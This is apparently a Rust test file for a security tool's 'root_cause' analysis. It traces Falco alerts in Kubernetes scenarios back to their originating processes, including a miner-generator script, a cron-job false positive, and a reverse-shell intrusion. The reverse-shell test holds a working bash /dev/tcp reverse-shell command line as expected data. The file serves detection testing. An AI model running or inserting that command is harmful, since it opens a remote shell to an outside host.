//! `root_cause` on the scenarios: the root-cause command lines and the alerts on their chains,
//! checked against ancestry read from the scenario files here.

use saker_tools::alert::Alert;
use saker_tools::analytics::{ToolContext, ToolRegistry};
use saker_tools::ingest::{IngestSettings, Ingestor};
use saker_tools::rules::RulesCatalog;
use saker_tools::store::AlertStore;
use saker_tools::store::index::TantivyStore;
use serde_json::{Value, json};

use crate::support::{demo_now, scenario_alerts, scenario_store};

fn invoke(store: &TantivyStore, arguments: Value) -> Result<Value, String> {
    let rules = RulesCatalog::default();
    let context = ToolContext::new(store, &rules, demo_now());
    ToolRegistry::standard().invoke("root_cause", arguments, &context).map_err(|error| error.to_string())
}

fn in_namespace<'a>(alerts: &'a [Alert], namespace: &str) -> Vec<&'a Alert> {
    alerts.iter().filter(|alert| alert.dimensions.namespace.as_deref() == Some(namespace)).collect()
}

/// Whether the alert's process descends from a process with this command line, as far as the
/// alert itself shows (itself or its parent): the chain the scenario files make explicit.
fn on_chain_of(alert: &Alert, cmdline: &str) -> bool {
    let process = &alert.dimensions.process;
    process.cmdline.as_deref() == Some(cmdline) || process.pcmdline.as_deref() == Some(cmdline)
}

#[test]
fn the_malicious_binary_starts_from_the_generator_script() {
    let (_directory, store) = scenario_store();
    let alerts = scenario_alerts("malicious_binary");
    let scoped = in_namespace(&alerts, "risk-10-aws-bedrock-java");
    let script = "bash ./malicious-bin-event-gen.sh";
    let output = invoke(
        &store,
        json!({"scope": "kubernetes.cluster.name=risks-aws-eks-workloads-shield and k8s.ns.name=risk-10-aws-bedrock-java"}),
    )
    .expect("root cause");
    let top = &output["root_causes"][0];
    assert_eq!(top["process"]["cmdline"], script);
    // Every alert of the namespace's attack containers hangs under the script: the script's
    // children name it as their parent, and the miner's descendants carry it as an ancestor.
    let expected = scoped
        .iter()
        .filter(|alert| {
            alert.dimensions.image.as_deref().is_some_and(|image| image.contains("malicious-bin-event-gen"))
        })
        .count();
    assert_eq!(top["alert_count"], expected as u64);
    let direct = scoped.iter().filter(|alert| on_chain_of(alert, script)).count();
    assert!(direct > 0 && direct <= expected);
    let pods: std::collections::BTreeSet<&str> =
        scoped.iter().filter_map(|alert| alert.dimensions.pod.as_deref()).collect();
    let reported: std::collections::BTreeSet<&str> = top["containers"]
        .as_array()
        .expect("containers")
        .iter()
        .filter_map(|container| container["pod"].as_str())
        .collect();
    assert_eq!(reported, pods);
    let roles: Vec<&str> =
        top["chain"].as_array().expect("chain").iter().filter_map(|link| link["role"].as_str()).collect();
    assert!(roles.contains(&"root cause") && roles.contains(&"container entrypoint"), "{roles:?}");
    let first_seen =
        scoped.iter().filter(|alert| on_chain_of(alert, script)).map(|alert| alert.time).min().expect("first");
    let reported = chrono::DateTime::parse_from_rfc3339(top["first_seen"].as_str().expect("first seen")).expect("time");
    assert_eq!(reported, first_seen, "first seen is the earliest alert naming the script");
}

#[test]
fn the_reverse_shell_starts_from_the_web_servers_shell_and_the_responder_is_separate() {
    let (_directory, store) = scenario_store();
    let alerts = scenario_alerts("reverse_shell");
    let shell = "sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'";
    let output = invoke(&store, json!({"scope": "kubernetes.cluster.name=prod-web-eks and k8s.ns.name=web"}))
        .expect("root cause");
    let web = in_namespace(&alerts, "web");
    let responder = web.iter().filter(|alert| alert.dimensions.process.pname.as_deref() == Some("runc")).count();
    let roots = output["root_causes"].as_array().expect("roots");
    assert_eq!(roots[0]["process"]["cmdline"], shell);
    assert_eq!(roots[0]["alert_count"], (web.len() - responder) as u64);
    assert_eq!(roots.len(), 2, "the intruder and the on-call engineer's exec session");
    assert!(roots[1]["reason"].as_str().expect("reason").contains("exec"));
    assert_eq!(roots[1]["alert_count"], responder as u64);
}

#[test]
fn one_alert_is_explained_with_the_other_alerts_on_its_chain() {
    let (_directory, store) = scenario_store();
    let alerts = scenario_alerts("malicious_binary");
    let miner =
        alerts.iter().find(|alert| alert.dimensions.process.name.as_deref() == Some("easyminer")).expect("miner");
    let container = miner.dimensions.container_id.clone().expect("container");
    let output = invoke(&store, json!({"alert_id": miner.id})).expect("root cause");
    assert_eq!(output["triggering_alert"]["id"], miner.id.as_str());
    let roots = output["root_causes"].as_array().expect("roots");
    assert_eq!(roots.len(), 1);
    assert_eq!(roots[0]["process"]["cmdline"], "bash ./malicious-bin-event-gen.sh");
    let same_container =
        alerts.iter().filter(|alert| alert.dimensions.container_id.as_deref() == Some(container.as_str())).count();
    assert_eq!(roots[0]["alert_count"], same_container as u64);
    let error = invoke(&store, json!({"alert_id": "no-such-alert"})).expect_err("unknown id");
    assert!(error.contains("no-such-alert"), "{error}");
}

#[test]
fn alerts_without_ancestry_get_the_missing_fields_and_the_falco_yaml_to_add() {
    let directory = tempfile::tempdir().expect("tempdir");
    let store = TantivyStore::open(directory.path()).expect("store");
    let mut ingestor = Ingestor::new(store.writer().expect("writer"), IngestSettings::default());
    for (index, alert) in scenario_alerts("false_positive").iter().enumerate().take(3) {
        let mut raw: Value = serde_json::to_value(&alert.output_fields).expect("fields");
        let fields = raw.as_object_mut().expect("object");
        fields.retain(|key, _| !key.starts_with("proc.") || key == "proc.name" || key == "proc.cmdline");
        let line = json!({"time": alert.time, "rule": alert.rule, "priority": "Warning", "output": alert.output, "output_fields": fields, "hostname": alert.hostname});
        ingestor.ingest_text("test", index as u64 + 1, &line.to_string()).expect("ingest");
    }
    ingestor.finish().expect("commit");
    let output = invoke(&store, json!({})).expect("root cause");
    assert_eq!(output["root_causes"].as_array().expect("roots").len(), 0);
    let missing = &output["missing"];
    let fields: Vec<&str> =
        missing["missing_fields"].as_array().expect("fields").iter().filter_map(Value::as_str).collect();
    for field in ["proc.pid", "proc.ppid", "proc.pcmdline", "proc.aname[2]"] {
        assert!(fields.contains(&field), "{fields:?}");
    }
    assert!(!fields.contains(&"container.id"), "present fields are not reported missing");
    assert!(missing["falco_yaml"].as_str().expect("yaml").contains("append_output:"));
    assert_eq!(output["alerts_without_ancestry"], 3);
    let empty = invoke(&store, json!({"scope": "k8s.ns.name=nowhere"})).expect("empty");
    assert!(empty["evidence"]["note"].as_str().is_some());
}

/// Regression: the nightly job in the httpd pod was attributed to the `cron` daemon itself (the
/// process below the entrypoint) instead of the job cron started.
#[test]
fn a_cron_job_is_the_root_cause_not_the_cron_daemon() {
    let (_directory, store) = scenario_store();
    let alerts = scenario_alerts("false_positive");
    // The job's command line is the parent of every alerting `rm` in the scenario file.
    let job: Vec<&str> = alerts.iter().filter_map(|alert| alert.dimensions.process.pcmdline.as_deref()).collect();
    assert!(job.iter().all(|cmdline| *cmdline == job[0]), "{job:?}");
    let output = invoke(&store, json!({"scope": "kubernetes.cluster.name=staging-ocp"})).expect("root cause");
    let root = &output["root_causes"][0];
    assert_eq!(root["process"]["cmdline"], job[0], "{root}");
    assert!(root["reason"].as_str().is_some_and(|reason| reason.contains("scheduler cron")), "{root}");
    assert_eq!(root["alert_count"].as_u64(), Some(alerts.len() as u64));
}
